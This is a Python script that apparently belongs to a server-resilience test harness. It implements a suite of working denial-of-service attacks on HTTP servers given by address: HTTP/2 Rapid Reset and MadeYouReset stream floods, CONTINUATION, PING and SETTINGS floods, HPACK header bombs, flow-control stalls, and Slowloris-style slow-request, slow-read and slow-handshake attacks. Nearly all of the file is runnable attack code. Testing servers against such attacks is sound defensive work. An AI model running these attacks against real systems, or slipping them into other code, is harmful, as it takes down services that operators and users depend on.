#!/usr/bin/env python3
# SPDX-License-Identifier: Apache-2.0
"""Attackers, and the good client beside them: pod_attacks.py FUNCTION JSON-ARGUMENTS

Each attacks one address for some seconds and prints what came back: connections made and ended, GOAWAY codes, statuses.
"""
import json
import socket
import struct
import sys
import time

from h2_vectors import (CONTINUATION, END_HEADERS, END_STREAM, HEADERS, PING, PREFACE, RST_STREAM, SETTINGS, WINDOW_UPDATE, code_name, frame,
                        integer, literal, request_block, settings)

CANCEL = struct.pack(">I", 8)
HELLO = b"\x16\x03\x01\x02\x00\x01\x00\x01\xfc\x03\x03"


class Report(dict):
    def __init__(self):
        super().__init__(connections=0, ended=0, sent=0, codes={}, statuses={}, refused_connects=0)

    def add(self, what, key):
        self[what][key] = self[what].get(key, 0) + 1


class Attacker:
    """One connection that is read just enough to tell how it ends."""

    def __init__(self, where, report, timeout=2):
        self.report, self.buffer, self.h2 = report, b"", False
        self.socket = socket.create_connection(where, timeout=timeout)
        report["connections"] += 1

    def __enter__(self):
        return self

    def __exit__(self, *exc):
        self.socket.close()

    def preface(self, pairs=()):
        self.h2 = True
        return self.send(PREFACE + settings(pairs))

    def send(self, raw):
        """False when the connection has ended, or takes nothing more."""
        try:
            self.socket.sendall(raw)
            self.report["sent"] += len(raw)
            return True
        except socket.timeout:
            return False
        except OSError:
            self.read()
            return False

    def read(self, seconds=0.0):
        """What is there, or comes within that time; False at the end."""
        end = time.monotonic() + seconds
        while True:
            self.socket.settimeout(max(end - time.monotonic(), 0.0001))
            try:
                got = self.socket.recv(65536)
            except socket.timeout:
                got = None
            except OSError:
                got = b""
            self.socket.settimeout(2)
            if got is None:
                return True
            self.buffer += got
            self.frames()
            if not got:
                self.report["ended"] += 1
                return False

    def frames(self):
        if not self.h2:
            if self.buffer[:5] == b"HTTP/" and b"\r\n" in self.buffer:
                self.report.add("statuses", self.buffer[9:12].decode("latin-1"))
                self.buffer = b""
            return
        while len(self.buffer) >= 9:
            n, kind = int.from_bytes(self.buffer[:3], "big"), self.buffer[3]
            if len(self.buffer) < 9 + n:
                return
            if kind == 7:
                self.report.add("codes", code_name(struct.unpack(">I", self.buffer[13:17])[0]))
            self.buffer = self.buffer[9 + n:]


def again(where, seconds, one):
    """one(attacker, deadline) over and over, each on a connection of its own."""
    report, deadline = Report(), time.monotonic() + seconds
    while time.monotonic() < deadline:
        try:
            with Attacker(where, report) as a:
                one(a, deadline)
        except OSError:
            report["refused_connects"] += 1
            time.sleep(0.01)
    return report


def get(stream, path=b"/f0", extra=b"", flags=END_HEADERS | END_STREAM):
    return frame(HEADERS, flags, stream, request_block(b"GET", path, b"a") + extra)


def streams(a, deadline, make, batch=100):
    """Batches of what make(stream) says, until the connection has ended."""
    a.preface()
    stream = 1
    while time.monotonic() < deadline and a.send(b"".join(make(s) for s in range(stream, stream + 2 * batch, 2))) and a.read():
        stream += 2 * batch


def flood(a, deadline, raw, reads=True):
    a.preface()
    while time.monotonic() < deadline and a.send(raw) and (not reads or a.read()):
        pass


def h201_rapid_reset(a, deadline):
    streams(a, deadline, lambda s: get(s) + frame(RST_STREAM, 0, s, CANCEL))


def h201_elicited_by_fields(a, deadline):
    streams(a, deadline, lambda s: get(s, extra=literal(b"X-Upper", b"y")))


def h201_elicited_by_window(a, deadline):
    """MadeYouReset: the server is made to reset what it had begun."""
    streams(a, deadline, lambda s: get(s) + frame(WINDOW_UPDATE, 0, s, struct.pack(">I", 0x7fffffff)))


def h203_small(a, deadline):
    flood(a, deadline, get(1, flags=END_STREAM) + frame(CONTINUATION, 0, 1, b"\0") * 1000)


def h203_empty(a, deadline):
    flood(a, deadline, get(1, flags=END_STREAM) + frame(CONTINUATION, 0, 1) * 10000)


def h203_large(a, deadline):
    flood(a, deadline, get(1, flags=END_STREAM) + frame(CONTINUATION, 0, 1, literal(b"x", b"v" * 16000)) * 64)


def h204_ping(a, deadline):
    flood(a, deadline, frame(PING, 0, 0, b"12345678") * 1000, reads=False)


def h204_settings(a, deadline):
    flood(a, deadline, settings([(6, 65536)]) * 1000, reads=False)


def h204_settings_empty(a, deadline):
    flood(a, deadline, settings() * 1000)


def h204_settings_64(a, deadline):
    flood(a, deadline, frame(SETTINGS, 0, 0, struct.pack(">HI", 6, 65536) * 64))


def h204_list_size_churn(a, deadline):
    flood(a, deadline, b"".join(settings([(6, n), (1, n)]) for n in range(1000)))


def h206_bomb(a, deadline):
    bomb = request_block(b"GET", b"/f0", b"a") + literal(b"x", b"v" * 4000, "indexed") + b"\xbe" * 12000
    a.preface()
    stream = 1
    while time.monotonic() < deadline and a.send(frame(HEADERS, END_STREAM, stream, bomb[:16384]) + frame(CONTINUATION, END_HEADERS, stream, bomb[16384:])) and a.read():
        stream += 2


def h206_table_flapping(a, deadline):
    flap = integer(0, 5, 0x20) + integer(4096, 5, 0x20)
    streams(a, deadline, lambda s: frame(HEADERS, END_HEADERS | END_STREAM, s, flap * 500 + request_block(b"GET", b"/f0", b"a")), batch=5)


def h206_varint(a, deadline):
    flood(a, deadline, frame(HEADERS, END_HEADERS | END_STREAM, 1, b"\xff" * 16000))


def held(where, seconds, begin, step, count=50):
    """Many connections at once: begin(attacker) on each, then step(attacker) on each, round by round."""
    report, deadline, live = Report(), time.monotonic() + seconds, []
    while time.monotonic() < deadline:
        while len(live) < count:
            try:
                a = Attacker(where, report)
            except OSError:
                report["refused_connects"] += 1
                break
            begin(a)
            live.append(a)
        kept = [a for a in live if step(a)]
        for a in live:
            if a not in kept:
                a.socket.close()
        live = kept
        time.sleep(0.1)
    for a in live:
        a.socket.close()
    return report


def h207_zero_window(where, seconds):
    def begin(a):
        a.preface([(4, 0)])
        a.send(b"".join(get(s, b"/big") for s in range(1, 200, 2)))
    return held(where, seconds, begin, lambda a: a.read())


def h207_one_byte_windows(where, seconds):
    def begin(a):
        a.preface([(4, 1)])
        a.send(b"".join(get(s, b"/big") for s in range(1, 20, 2)))
    return held(where, seconds, begin, lambda a: a.send(b"".join(frame(WINDOW_UPDATE, 0, s, b"\0\0\0\1") for s in range(1, 20, 2))) and a.read())


def h207_never_reads(where, seconds):
    def begin(a):
        a.socket.setsockopt(socket.SOL_SOCKET, socket.SO_RCVBUF, 4096)
        a.preface([(4, 0x7fffffff)])
        a.send(frame(WINDOW_UPDATE, 0, 0, struct.pack(">I", 0x7fff0000)) + b"".join(get(s, b"/big") for s in range(1, 200, 2)))
    return held(where, seconds, begin, lambda a: True)


def rs01_slow_head(where, seconds):
    return held(where, seconds, lambda a: a.send(b"GET / HTTP/1.1\r\nHost: a\r\nX-A: "), lambda a: a.send(b"a") and a.read(), 300)


def rs01_slow_body(where, seconds):
    return held(where, seconds, lambda a: a.send(b"POST / HTTP/1.1\r\nHost: a\r\nContent-Length: 1000000\r\n\r\n"), lambda a: a.send(b"a") and a.read(), 300)


def rs01_slow_read(where, seconds):
    def begin(a):
        a.socket.setsockopt(socket.SOL_SOCKET, socket.SO_RCVBUF, 4096)
        a.send(b"GET /bytes/4000000 HTTP/1.1\r\nHost: a\r\n\r\n")
    return held(where, seconds, begin, lambda a: bool(a.socket.recv(16)), 100)


def rs01_slow_handshake(where, seconds):
    return held(where, seconds, lambda a: a.send(HELLO), lambda a: a.send(b"\0") and a.read(), 300)


def rs01_silent(where, seconds):
    return held(where, seconds, lambda a: None, lambda a: a.read(), 300)


def rs02(head):
    def one(a, deadline):
        a.send(head)
        a.read(0.5)
    return one


rs02_large_field = rs02(b"GET / HTTP/1.1\r\nHost: a\r\nX: " + b"v" * (1 << 20) + b"\r\n\r\n")
rs02_many_fields = rs02(b"GET / HTTP/1.1\r\nHost: a\r\n" + b"X: y\r\n" * 10000 + b"\r\n")
rs02_long_target = rs02(b"GET /" + b"a" * (1 << 20) + b" HTTP/1.1\r\nHost: a\r\n\r\n")


HELD = {"h207_zero_window", "h207_one_byte_windows", "h207_never_reads", "rs01_slow_head", "rs01_slow_body", "rs01_slow_read", "rs01_slow_handshake",
        "rs01_silent"}


def main(argv):
    args = json.loads(argv[2])
    where, seconds = tuple(args["where"]), args["seconds"]
    f = globals()[argv[1]]
    report = f(where, seconds) if argv[1] in HELD else again(where, seconds, f)
    print(json.dumps(report))


if __name__ == "__main__":
    main(sys.argv)
